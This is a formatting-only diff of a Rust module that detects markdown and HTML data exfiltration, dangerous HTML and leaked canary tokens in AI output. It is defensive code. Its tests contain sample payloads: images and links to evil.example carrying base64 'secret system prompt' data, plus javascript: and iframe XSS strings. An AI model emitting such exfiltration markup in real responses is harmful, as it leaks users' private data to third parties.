@@ -36,20 +36,29 @@ fn re(p: &str) -> Option<Regex> {
 }
 
 static MD_INLINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    re(r#"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s)>]+)>?(?:\s+(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^)\n]{0,200}\)))?\s*\)"#)
+    re(
+        r#"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s)>]+)>?(?:\s+(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^)\n]{0,200}\)))?\s*\)"#,
+    )
 });
 static MD_REFDEF: LazyLock<Option<Regex>> =
     LazyLock::new(|| re(r"(?m)^[ ]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?([^\s>]+)>?"));
 static MD_REFIMG: LazyLock<Option<Regex>> = LazyLock::new(|| re(r"!\[[^\]\n]{0,500}\]\[([^\]\n]{0,200})\]"));
-static HTML_SRC: LazyLock<Option<Regex>> =
-    LazyLock::new(|| re(r#"(?i)<(?:img|image|source|video|audio|iframe|embed|script|link)\b[^>]*?\b(?:src|href|srcset|poster|data)\s*=\s*["']?([^"'\s>]+)"#));
+static HTML_SRC: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    re(
+        r#"(?i)<(?:img|image|source|video|audio|iframe|embed|script|link)\b[^>]*?\b(?:src|href|srcset|poster|data)\s*=\s*["']?([^"'\s>]+)"#,
+    )
+});
 static BARE_URL: LazyLock<Option<Regex>> = LazyLock::new(|| re(r#"https?://[^\s<>()\[\]"'`]+"#));
 
 /// Is `host` one of `allowed` or a subdomain of one?
 pub fn host_allowed(host: &str, allowed: &[String]) -> bool {
     let host = host.trim_end_matches('.').to_ascii_lowercase();
     allowed.iter().any(|d| {
-        let d = d.trim().trim_start_matches("*.").trim_end_matches('.').to_ascii_lowercase();
+        let d = d
+            .trim()
+            .trim_start_matches("*.")
+            .trim_end_matches('.')
+            .to_ascii_lowercase();
         !d.is_empty() && (host == d || host.ends_with(&format!(".{d}")))
     })
 }
@@ -62,7 +71,10 @@ fn data_bearing(url: &url::Url) -> Option<String> {
         let prose = v.contains(' ') && v.chars().count() >= 8;
         let random = v.chars().count() >= 12 && entropy(v) >= 3.3;
         if long || prose || random {
-            return Some(format!("query parameter `{k}` carries {} characters", v.chars().count()));
+            return Some(format!(
+                "query parameter `{k}` carries {} characters",
+                v.chars().count()
+            ));
         }
         let found = crate::pii::find(v, 0.5, &[]);
         if let Some(e) = found.first() {
@@ -97,7 +109,9 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
         if out.iter().any(|f| start < f.end && end > f.start) {
             return;
         }
-        let Ok(url) = url::Url::parse(raw_url.trim()) else { return };
+        let Ok(url) = url::Url::parse(raw_url.trim()) else {
+            return;
+        };
         if !matches!(url.scheme(), "http" | "https") {
             return;
         }
@@ -108,7 +122,10 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
         let data = data_bearing(&url);
         let (score, reason) = match (image, data) {
             (true, Some(d)) => (0.95, format!("image from {host} outside the allowlist; {d}")),
-            (true, None) => (0.7, format!("image from {host} outside the allowlist (fetched without a click)")),
+            (true, None) => (
+                0.7,
+                format!("image from {host} outside the allowlist (fetched without a click)"),
+            ),
             (false, Some(d)) => (0.85, format!("link to {host} outside the allowlist; {d}")),
             (false, None) => return,
         };
@@ -127,7 +144,9 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
         .unwrap_or_default();
     if let Some(r) = MD_INLINE.as_ref() {
         for c in r.captures_iter(text) {
-            let (Some(m), Some(url)) = (c.get(0), c.get(3)) else { continue };
+            let (Some(m), Some(url)) = (c.get(0), c.get(3)) else {
+                continue;
+            };
             let image = !c[1].is_empty();
             let label = c[2].to_owned();
             let replacement = if image {
@@ -140,7 +159,9 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
     }
     if let Some(r) = MD_REFDEF.as_ref() {
         for c in r.captures_iter(text) {
-            let (Some(m), Some(url)) = (c.get(0), c.get(2)) else { continue };
+            let (Some(m), Some(url)) = (c.get(0), c.get(2)) else {
+                continue;
+            };
             let label = c[1].to_owned();
             let image = image_refs.contains(&label.to_lowercase());
             judge(m.start(), m.end(), url.as_str(), image, format!("[{label}]: #removed"));
@@ -148,7 +169,9 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
     }
     if let Some(r) = HTML_SRC.as_ref() {
         for c in r.captures_iter(text) {
-            let (Some(m), Some(url)) = (c.get(0), c.get(1)) else { continue };
+            let (Some(m), Some(url)) = (c.get(0), c.get(1)) else {
+                continue;
+            };
             judge(m.start(), m.end(), url.as_str(), true, "[image removed]".to_owned());
         }
     }
@@ -163,7 +186,9 @@ pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
 }
 
 static HTML_DANGER: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    re(r#"(?is)<\s*(script|iframe|object|embed|form|style|meta|base|link|svg|math|frameset|frame|applet|template|noscript)\b[^>]*>|<\s*[a-z][a-z0-9-]{0,30}\b[^>]*?(?:\bon[a-z]{3,30}\s*=|(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|vbscript|data\s*:\s*text/html))[^>]*>"#)
+    re(
+        r#"(?is)<\s*(script|iframe|object|embed|form|style|meta|base|link|svg|math|frameset|frame|applet|template|noscript)\b[^>]*>|<\s*[a-z][a-z0-9-]{0,30}\b[^>]*?(?:\bon[a-z]{3,30}\s*=|(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|vbscript|data\s*:\s*text/html))[^>]*>"#,
+    )
 });
 
 /// HTML that a renderer would act on: dangerous elements (through their closing tag),
@@ -217,10 +242,18 @@ pub fn canaries(text: &str, tokens: &[String]) -> Vec<Finding> {
         return out;
     }
     let norm = normalize(text).text;
-    let squashed: String = norm.chars().filter(|c| c.is_alphanumeric()).collect::<String>().to_lowercase();
+    let squashed: String = norm
+        .chars()
+        .filter(|c| c.is_alphanumeric())
+        .collect::<String>()
+        .to_lowercase();
     for t in tokens.iter().filter(|t| t.len() >= 6) {
         let direct = text.find(t.as_str());
-        let t_sq: String = t.chars().filter(|c| c.is_alphanumeric()).collect::<String>().to_lowercase();
+        let t_sq: String = t
+            .chars()
+            .filter(|c| c.is_alphanumeric())
+            .collect::<String>()
+            .to_lowercase();
         let disguised = direct.is_none() && !t_sq.is_empty() && squashed.contains(&t_sq);
         let b64 = STANDARD.encode(t.as_bytes());
         let encoded = text.contains(b64.trim_end_matches('=')) || text.to_ascii_lowercase().contains(&hex::encode(t));
@@ -283,10 +316,16 @@ mod tests {
     #[test]
     fn markdown_exfiltration_table() {
         // Images outside the allowlist: always; with data: more confident.
-        check_md("![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)", &["image"]);
+        check_md(
+            "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)",
+            &["image"],
+        );
         check_md("![logo](https://cdn.other.net/logo.png)", &["image"]);
         // Allowlisted domain and its subdomains are fine.
-        check_md("![x](https://docs.example.com/a.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)", &[]);
+        check_md(
+            "![x](https://docs.example.com/a.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)",
+            &[],
+        );
         check_md("![x](https://img.trusted.org/a.png?q=verylongvalueeeeeeeeeeeeeee)", &[]);
         // Not a subdomain: a look-alike suffix.
         check_md("![x](https://eviltrusted.org/a.png)", &["image"]);
@@ -296,12 +335,24 @@ mod tests {
         check_md("[click](https://evil.example/c?q=my%20password%20is%20x)", &["link"]);
         check_md("[ok](https://evil.example/search?q=rust)", &[]);
         // Reference-style image and link definitions.
-        check_md("![chart][1]\n\n[1]: https://evil.example/i.png?d=QWxsIHlvdXIgZGF0YQ", &["image"]);
-        check_md("[more][a]\n\n[a]: https://evil.example/x?session=Zr8pQ2xW9vL4mN7kT1yB", &["link"]);
+        check_md(
+            "![chart][1]\n\n[1]: https://evil.example/i.png?d=QWxsIHlvdXIgZGF0YQ",
+            &["image"],
+        );
+        check_md(
+            "[more][a]\n\n[a]: https://evil.example/x?session=Zr8pQ2xW9vL4mN7kT1yB",
+            &["link"],
+        );
         check_md("[more][a]\n\n[a]: https://evil.example/x", &[]);
         // HTML images and bare URLs with data.
-        check_md("<img src=\"https://evil.example/t.gif?c=QWxsIHlvdXIgZGF0YQ\">", &["image"]);
-        check_md("visit https://evil.example/a/c2VjcmV0LXN5c3RlbS1wcm9tcHQtbGVha2VkLWhlcmU now", &["link"]);
+        check_md(
+            "<img src=\"https://evil.example/t.gif?c=QWxsIHlvdXIgZGF0YQ\">",
+            &["image"],
+        );
+        check_md(
+            "visit https://evil.example/a/c2VjcmV0LXN5c3RlbS1wcm9tcHQtbGVha2VkLWhlcmU now",
+            &["link"],
+        );
         check_md("no links here", &[]);
     }
 
@@ -311,7 +362,10 @@ mod tests {
         let f = markdown_exfiltration(t, &[]);
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].replacement, "[image removed]");
-        assert_eq!(&t[f[0].start..f[0].end], "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)");
+        assert_eq!(
+            &t[f[0].start..f[0].end],
+            "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)"
+        );
     }
 
     fn check_html(input: &str, expect: &[(&str, &str)]) {
@@ -342,7 +396,10 @@ mod tests {
         );
         check_html(
             "<a href=\"javascript:alert(1)\">hi</a>",
-            &[("<a href=\"javascript:alert(1)\">", "<a rel=\"noopener noreferrer\"></a>")],
+            &[(
+                "<a href=\"javascript:alert(1)\">",
+                "<a rel=\"noopener noreferrer\"></a>",
+            )],
         );
         check_html("<IFRAME src=//evil></iframe>", &[("<IFRAME src=//evil></iframe>", "")]);
         // Harmless markup and comparisons are left alone.
